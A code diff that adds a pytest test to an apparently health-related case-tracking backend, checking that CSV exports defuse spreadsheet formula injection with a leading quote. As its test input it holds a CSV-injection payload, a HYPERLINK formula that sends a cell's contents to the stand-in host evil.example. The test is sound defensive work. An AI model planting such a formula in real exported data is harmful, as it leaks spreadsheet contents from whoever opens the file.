@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 from datetime import timedelta
+from decimal import Decimal
+from uuid import UUID, uuid4
 
 import pytest
 from aiohttp.test_utils import TestClient, TestServer, make_mocked_request
@@ -12,9 +14,12 @@ from aiohttp.test_utils import TestClient, TestServer, make_mocked_request
 from backend.api.app import create_api
 from backend.api.client_address import client_address
 from backend.domain.clock import FixedClock
+from backend.domain.csv_cells import csv_cell
+from backend.domain.questionnaire import Answer
 from backend.services.context import ServiceContext
 from backend.services.retention import purge_expired
 from backend.services.staff import create_staff
+from backend.storage import entries as entry_store
 from backend.storage.groups import link_staff, staff_id_for_telegram
 from tests.test_cli import run
 from tests.test_escalations import answer
@@ -144,6 +149,39 @@ async def test_paging_and_csv_exports(service: TestClient, tokens: dict) -> None
     case = seen[0]
     response = await service.get(f"/api/v1/cases/{case}/entries.csv", headers=auth(tokens["staff"]))
     assert (await response.text()).startswith("local_date,")
+
+
+async def test_csv_exports_defuse_formulas(
+    service: TestClient, tokens: dict, ctx: ServiceContext
+) -> None:
+    """Typed text that a spreadsheet would run as a formula is exported as text (a leading
+    quote); numbers, dates and booleans stay as they are."""
+    case = await new_case(service, tokens["staff"], staff_reference="+49 123")
+    note = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
+    answer = Answer(False, ("cough",), Decimal("-1.5"), "worse", note)
+    today = ctx.clock.now().date()
+    await ctx.db.transaction(
+        entry_store.save_entry, KOELN, UUID(case["id"]), uuid4(), today, answer, ctx.clock.now()
+    )
+
+    response = await service.get(
+        f"/api/v1/regions/{KOELN}/cases.csv", headers=auth(tokens["staff"])
+    )
+    rows = list(csv.DictReader(io.StringIO(await response.text())))
+    ours = next(row for row in rows if row["case_id"] == case["id"])
+    assert ours["staff_reference"] == "'+49 123"
+    assert ours["quarantine_start"] == "2026-11-24" and ours["activated"] == "False"
+
+    response = await service.get(
+        f"/api/v1/cases/{case['id']}/entries.csv", headers=auth(tokens["staff"])
+    )
+    (entry,) = csv.DictReader(io.StringIO(await response.text()))
+    assert entry["note"] == "'" + note
+    assert entry["temperature_c"] == "-1.5" and entry["feeling_well"] == "False"
+    assert entry["local_date"] == today.isoformat() and entry["symptoms"] == "cough"
+    for text in ("@SUM(A1)", "-2+3", "\tx", "\rx", "=1"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("K-1") == "K-1" and csv_cell(-3) == -3 and csv_cell(None) == ""
 
 
 async def test_every_read_of_personal_data_is_audited(service: TestClient, tokens: dict) -> None:
